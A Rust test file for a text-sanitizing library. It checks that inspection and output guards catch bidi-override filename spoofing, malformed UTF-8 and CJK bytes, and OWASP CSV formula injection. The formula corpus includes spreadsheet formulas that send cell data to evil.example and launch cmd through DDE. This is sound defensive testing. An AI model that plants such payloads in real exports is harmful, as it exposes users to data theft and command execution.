// Attack corpora, exercised through inspect() and the output sanitizers.
//
// Each corpus is built in code, in the shape of its source: data lines in the
// format of the Unicode BidiCharacterTest.txt holding U+202E, handcrafted bidi
// attack lines, the OWASP CSV-injection payloads, and a stress file in the manner
// of Markus Kuhn's UTF-8-test.txt, with malformed sequences between valid text.

use jsonguard::{csv_field, display_safe, inspect, jsonl_safe, tsv_safe};

// ---------------------------------------------------------------------------
// Bidi corpus
// ---------------------------------------------------------------------------

/// Data lines in the BidiCharacterTest.txt format:
/// `<hex codepoints>;<paragraph dir>;<resolved level>;<levels>;<reorder>`.
fn bidi_char_test() -> String {
    let mut out = String::from("# BidiCharacterTest-style conformance data\n#\n");
    let controls = [0x202Eu32, 0x202B, 0x2067, 0x200F, 0x202D];
    for n in 0..1500u32 {
        let control = controls[(n % 5) as usize];
        let letter = 0x0061 + (n % 26);
        let hebrew = 0x05D0 + (n % 27);
        let digit = 0x0030 + (n % 10);
        out.push_str(&format!(
            "{:04X} {:04X} {:04X} {:04X} 202C;{};{};0 1 1 1 x;0 3 2 1\n",
            letter,
            control,
            hebrew,
            digit,
            n % 3,
            n % 2
        ));
    }
    out
}

/// The first `n` data lines whose codepoint sequence contains U+202E.
fn rlo_lines(n: usize) -> Vec<String> {
    bidi_char_test()
        .lines()
        .filter(|l| !l.starts_with('#') && !l.trim().is_empty())
        .filter(|l| {
            l.split(';').next().map_or(false, |cps| {
                cps.split_whitespace()
                    .any(|cp| u32::from_str_radix(cp, 16).map_or(false, |n| n == 0x202E))
            })
        })
        .take(n)
        .map(|l| {
            l.split(';')
                .next()
                .unwrap_or("")
                .split_whitespace()
                .filter_map(|cp| u32::from_str_radix(cp, 16).ok())
                .filter_map(char::from_u32)
                .collect()
        })
        .collect()
}

#[test]
fn bidi_char_test_loads() {
    let corpus = bidi_char_test();
    assert!(corpus.len() > 1000, "BidiCharacterTest corpus too small");
    let data_lines = corpus
        .lines()
        .filter(|l| !l.starts_with('#') && !l.trim().is_empty())
        .count();
    assert!(data_lines > 1000, "expected >1000 data lines, got {data_lines}");
}

#[test]
fn inspect_detects_bidi_in_rlo_corpus_lines() {
    let lines = rlo_lines(50);
    assert!(!lines.is_empty(), "no U+202E lines found in the corpus");
    for line in &lines {
        let f = inspect(line.as_str());
        assert!(f.has_bidi(), "expected has_bidi() for corpus line containing U+202E: {:?}", line);
        assert!(!f.is_csv_safe(), "bidi-containing line must not be csv_safe: {:?}", line);
        assert!(!f.is_display_safe(), "bidi-containing line must not be display_safe: {:?}", line);
    }
}

#[test]
fn display_safe_strips_rlo_from_corpus_lines() {
    for line in rlo_lines(20) {
        let g = display_safe(line.as_str());
        assert!(!g.to_string().contains('\u{202E}'), "display_safe must strip U+202E from: {:?}", line);
    }
}

#[test]
fn csv_field_sanitizes_rlo_from_corpus_lines() {
    for line in rlo_lines(20) {
        let out = csv_field(line.as_str()).to_string();
        assert!(!out.contains('\u{202E}'), "csv_field must strip U+202E from: {:?}", line);
    }
}

#[test]
fn jsonl_safe_encodes_rlo_as_unicode_escape() {
    for line in rlo_lines(10) {
        let out = jsonl_safe(line.as_str()).to_string();
        assert!(!out.contains('\u{202E}'), "jsonl_safe must not emit raw U+202E");
        assert!(out.contains("\\u202e"), "jsonl_safe must escape U+202E as \\u202e, got: {out:?}");
    }
}

/// Handcrafted bidi attack lines with real embedded codepoints; the last two are
/// ordinary names holding an LRM and an Arabic letter mark.
fn bidi_samples() -> String {
    [
        "invoice\u{202E}fdp.exe",
        "\u{202D}admin\u{202C} login",
        "user\u{202A}name\u{202C}",
        "\u{202B}payload\u{202C}",
        "\u{2066}isolated\u{2069} text",
        "\u{2067}rtl isolate\u{2069}",
        "\u{2068}first strong\u{2069}",
        "mark\u{200F}here",
        "normal line file\u{200E}name.txt",
        "user\u{061C}name",
    ]
    .join("\n")
}

#[test]
fn bidi_samples_file_loads() {
    assert!(bidi_samples().len() > 50, "bidi_samples too small");
}

#[test]
fn inspect_detects_bidi_in_all_attack_samples() {
    let samples = bidi_samples();
    let attack_lines: Vec<&str> = samples
        .lines()
        .filter(|l| {
            l.chars().any(|c| {
                matches!(c,
                    '\u{200E}' | '\u{200F}'
                    | '\u{202A}'..='\u{202E}'
                    | '\u{2066}'..='\u{2069}'
                    | '\u{061C}'
                )
            })
        })
        .collect();
    assert!(!attack_lines.is_empty(), "no bidi-containing lines found in bidi_samples");
    for line in &attack_lines {
        assert!(inspect(*line).has_bidi(), "inspect must flag bidi in: {:?}", line);
    }
}

#[test]
fn display_safe_strips_bidi_from_attack_samples() {
    for line in bidi_samples().lines() {
        let out = display_safe(line).to_string();
        for c in out.chars() {
            assert!(
                !matches!(c,
                    '\u{200E}' | '\u{200F}'
                    | '\u{202A}'..='\u{202E}'
                    | '\u{2066}'..='\u{2069}'
                    | '\u{061C}'
                ),
                "display_safe left bidi char U+{:04X} in: {out:?}",
                c as u32
            );
        }
    }
}

// ---------------------------------------------------------------------------
// Formula injection corpus (OWASP CSV Injection)
// ---------------------------------------------------------------------------

fn formula_csv() -> &'static str {
    "=HYPERLINK(\"https://evil.example\",\"Click here\")
=cmd|'/C calc'!A0
+cmd|'/C calc'!A0
-2+3+cmd|'/C calc'!A0
@SUM(1+1)*cmd|'/C calc'!A0
=IMPORTXML(CONCAT(\"http://evil.example/steal?\",CONCATENATE(A2:E2)),\"//\")
=WEBSERVICE(\"https://evil.example/?data=\"&A1)
DDE(\"cmd\",\"/C calc\",\"__DDE_Remote\")
"
}

fn formula_lines() -> impl Iterator<Item = &'static str> {
    formula_csv().lines().filter(|l| {
        !l.trim().is_empty() && l.starts_with(|c| matches!(c, '=' | '+' | '-' | '@'))
    })
}

#[test]
fn formula_csv_loads() {
    let count = formula_csv().lines().filter(|l| !l.trim().is_empty()).count();
    assert!(count >= 7, "expected at least 7 formula injection samples, got {count}");
}

#[test]
fn inspect_flags_all_formula_lines() {
    let mut checked = 0usize;
    for line in formula_lines() {
        let f = inspect(line);
        assert!(f.has_formula(), "inspect must flag formula injection for: {line:?}");
        assert!(!f.is_csv_safe(), "formula line must not pass is_csv_safe: {line:?}");
        checked += 1;
    }
    assert!(checked >= 6, "expected at least 6 formula-trigger lines, got {checked}");
}

#[test]
fn csv_field_sanitizes_all_formula_lines() {
    for line in formula_lines() {
        let out = csv_field(line).to_string();
        let first_content_char = out.trim_start_matches('"').chars().next();
        assert_ne!(first_content_char, Some('='), "csv_field must not emit raw '=' prefix for: {line:?}");
        assert_ne!(first_content_char, Some('+'), "csv_field must not emit raw '+' prefix for: {line:?}");
        assert_ne!(first_content_char, Some('-'), "csv_field must not emit raw '-' prefix for: {line:?}");
        assert_ne!(first_content_char, Some('@'), "csv_field must not emit raw '@' prefix for: {line:?}");
        assert_eq!(
            first_content_char,
            Some('\''),
            "csv_field must guard formula line with leading \"'\": {line:?} → {out:?}"
        );
    }
}

#[test]
fn tsv_safe_sanitizes_all_formula_lines() {
    for line in formula_lines() {
        let out = tsv_safe(line).to_string();
        let first = out.chars().next();
        assert_ne!(first, Some('='), "tsv_safe must not emit raw '=' for: {line:?}");
        assert_ne!(first, Some('+'), "tsv_safe must not emit raw '+' for: {line:?}");
        assert_ne!(first, Some('-'), "tsv_safe must not emit raw '-' for: {line:?}");
        assert_ne!(first, Some('@'), "tsv_safe must not emit raw '@' for: {line:?}");
        assert_eq!(first, Some('\''), "tsv_safe must guard formula line with leading \"'\": {line:?} → {out:?}");
    }
}

#[test]
fn dde_line_not_flagged_as_formula() {
    // DDE(...) starts with 'D', which is no spreadsheet formula trigger.
    let dde = r#"DDE("cmd","/C calc","__DDE_Remote")"#;
    let f = inspect(dde);
    assert!(!f.has_formula(), "DDE line must not be flagged as FormulaInjection (first char is 'D')");
    let out = csv_field(dde).to_string();
    assert!(!out.starts_with('\''), "csv_field must not prepend apostrophe to DDE line: {out:?}");
}

// ---------------------------------------------------------------------------
// UTF-8 stress corpus (after Markus Kuhn's UTF-8-test.txt)
// ---------------------------------------------------------------------------

fn utf8_test_bytes() -> Vec<u8> {
    let malformed: [&[u8]; 16] = [
        b"\x80",
        b"\xbf",
        b"\x80\xbf\x80",
        b"\xc0 ",
        b"\xe0 ",
        b"\xf0 ",
        b"\xc0",
        b"\xe0\x80",
        b"\xfe",
        b"\xff",
        b"\xfe\xfe\xff\xff",
        b"\xc0\xaf",
        b"\xe0\x80\xaf",
        b"\xf0\x80\x80\xaf",
        b"\xed\xa0\x80",
        b"\xf4\x90\x80\x80",
    ];
    let mut out = Vec::new();
    out.extend_from_slice("UTF-8 decoder capability and stress test\n".as_bytes());
    for (n, seq) in malformed.iter().enumerate() {
        out.extend_from_slice(format!("3.{n} malformed sequence: \"").as_bytes());
        out.extend_from_slice(seq);
        out.extend_from_slice("\" |\n".as_bytes());
        out.extend_from_slice("  valid: \u{3ba}\u{1f79}\u{3c3}\u{3bc}\u{3b5} \u{1F600}\n".as_bytes());
    }
    while out.len() < 22_000 {
        out.extend_from_slice("filler line with plain ASCII text and \u{e9} accents\n".as_bytes());
    }
    out
}

#[test]
fn utf8_test_file_loads() {
    let bytes = utf8_test_bytes();
    assert!(bytes.len() > 10_000, "UTF-8 stress corpus too small, got {} bytes", bytes.len());
}

#[test]
fn inspect_reports_invalid_utf8_in_stress_test() {
    let bytes = utf8_test_bytes();
    let f = inspect(bytes.as_slice());
    assert!(f.has_invalid_utf8(), "inspect must report InvalidUtf8 for the stress corpus");
    assert!(f.lossy, "lossy flag must be set for invalid UTF-8 input");
}

#[test]
fn inspect_reports_multiple_invalid_sequences_in_stress_test() {
    let bytes = utf8_test_bytes();
    let f = inspect(bytes.as_slice());
    let count = f
        .violations
        .iter()
        .filter(|v| matches!(v.kind, jsonguard::ViolationKind::InvalidUtf8))
        .count();
    assert!(count > 10, "expected >10 distinct InvalidUtf8 violations, got {count}");
}

#[test]
fn display_safe_handles_stress_test_file() {
    let bytes = utf8_test_bytes();
    let g = display_safe(bytes.as_slice());
    assert!(g.lossy, "stress test contains invalid UTF-8 so lossy must be true");
    let _ = g.to_string();
}

fn assert_valid_json_escapes(out: &str) {
    let inner = &out[1..out.len() - 1];
    let mut chars = inner.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\\' {
            let next = chars.next().expect("backslash must be followed by escape char");
            assert!(
                matches!(next, '"' | '\\' | '/' | 'b' | 'f' | 'n' | 'r' | 't' | 'u'),
                "invalid JSON escape \\{next} in jsonl_safe output: {out:?}"
            );
        }
    }
}

#[test]
fn jsonl_safe_produces_valid_json_string_for_stress_test() {
    let bytes = utf8_test_bytes();
    let out = jsonl_safe(bytes.as_slice()).to_string();
    assert!(out.starts_with('"'), "jsonl_safe output must start with '\"'");
    assert!(out.ends_with('"'), "jsonl_safe output must end with '\"'");
    assert_valid_json_escapes(&out);
}

// ---------------------------------------------------------------------------
// Encoding hazards: CJKV sequences whose second byte is 0x5C, and Kuhn's
// malformed sequences one by one.
// ---------------------------------------------------------------------------

const BIG5_XU: &[u8] = b"\xB3\x5C";
const GBK_SLASH: &[u8] = b"\xD0\xC2\x5C";

#[test]
fn inspect_flags_big5_as_invalid_utf8() {
    let f = inspect(BIG5_XU);
    assert!(f.has_invalid_utf8(), "Big5 \\xB3\\x5C must be flagged as invalid UTF-8");
    assert!(f.lossy, "lossy must be set for Big5 bytes");
}

#[test]
fn inspect_flags_gbk_as_invalid_utf8() {
    let f = inspect(GBK_SLASH);
    assert!(f.has_invalid_utf8(), "GBK sequence ending in \\x5C must be flagged as invalid UTF-8");
    assert!(f.lossy, "lossy must be set for GBK bytes");
}

#[test]
fn jsonl_safe_big5_no_raw_backslash_hazard() {
    let g = jsonl_safe(BIG5_XU);
    let out = g.to_string();
    assert!(out.starts_with('"') && out.ends_with('"'), "jsonl_safe must produce a JSON string literal");
    assert_valid_json_escapes(&out);
    assert!(g.lossy, "Big5 input must set lossy=true");
}

#[test]
fn jsonl_safe_gbk_no_raw_backslash_hazard() {
    let out = jsonl_safe(GBK_SLASH).to_string();
    assert_valid_json_escapes(&out);
}

#[test]
fn csv_field_big5_no_raw_backslash_in_output() {
    let g = csv_field(BIG5_XU);
    assert!(g.lossy, "csv_field must set lossy=true for Big5 input containing 0x5C");
}

#[test]
fn display_safe_big5_strips_no_extra_ascii() {
    let g = display_safe(BIG5_XU);
    assert!(g.lossy, "display_safe must set lossy=true for Big5 input");
    let _ = g.to_string();
}

#[test]
fn inspect_overlong_nul_c0_80() {
    let f = inspect(b"\xC0\x80".as_ref());
    assert!(f.has_invalid_utf8(), "\\xC0\\x80 (overlong NUL) must be invalid UTF-8");
    assert!(f.lossy);
}

#[test]
fn inspect_surrogate_ed_a0_80() {
    let f = inspect(b"\xED\xA0\x80".as_ref());
    assert!(f.has_invalid_utf8(), "\\xED\\xA0\\x80 (surrogate U+D800) must be invalid UTF-8");
    assert!(f.lossy);
}

#[test]
fn inspect_above_unicode_max_f4_90_80_80() {
    let f = inspect(b"\xF4\x90\x80\x80".as_ref());
    assert!(f.has_invalid_utf8(), "\\xF4\\x90\\x80\\x80 (above U+10FFFF) must be invalid UTF-8");
    assert!(f.lossy);
}

#[test]
fn inspect_ff_fe_bom_like() {
    let f = inspect(b"\xFF\xFE".as_ref());
    assert!(f.has_invalid_utf8(), "\\xFF\\xFE (BOM-like) must be invalid UTF-8");
    assert!(f.lossy);
}

#[test]
fn inspect_isolated_continuation_byte() {
    let f = inspect(b"\x80".as_ref());
    assert!(f.has_invalid_utf8(), "isolated continuation byte must be invalid UTF-8");
    assert!(f.lossy);
}

#[test]
fn inspect_valid_utf8_str_not_flagged() {
    let cases = ["hello", "許功蓋", "Ünïcödé", "日本語", "\u{1F600}"];
    for s in cases {
        let f = inspect(s);
        assert!(!f.has_invalid_utf8(), "valid UTF-8 string {:?} must not be flagged as invalid", s);
        assert!(!f.lossy, "valid UTF-8 string {:?} must not set lossy=true", s);
    }
}
